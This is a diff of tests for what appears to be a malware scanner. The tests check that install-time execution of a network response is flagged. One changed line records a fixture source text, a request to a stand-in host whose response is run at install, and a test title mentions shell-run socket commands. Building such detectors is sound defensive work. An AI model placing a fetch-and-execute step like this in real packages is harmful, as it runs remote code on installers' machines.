@@ -17,7 +17,9 @@ test('a response that is executed at install is malware at the line of exec', as
   expect(findings).toMatchObject([
     { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 4 },
   ]);
-  expect(findings[0]?.chain).toContainEqual(expect.objectContaining({ role: 'source', line: 3 }));
+  expect(findings[0]?.chain).toContainEqual(
+    expect.objectContaining({ role: 'source', line: 3, text: 'requests.get(https://raw.snippets.invalid/a)' }),
+  );
 });
 
 test('a command that a socket received and a shell runs is malware even on call', async () => {
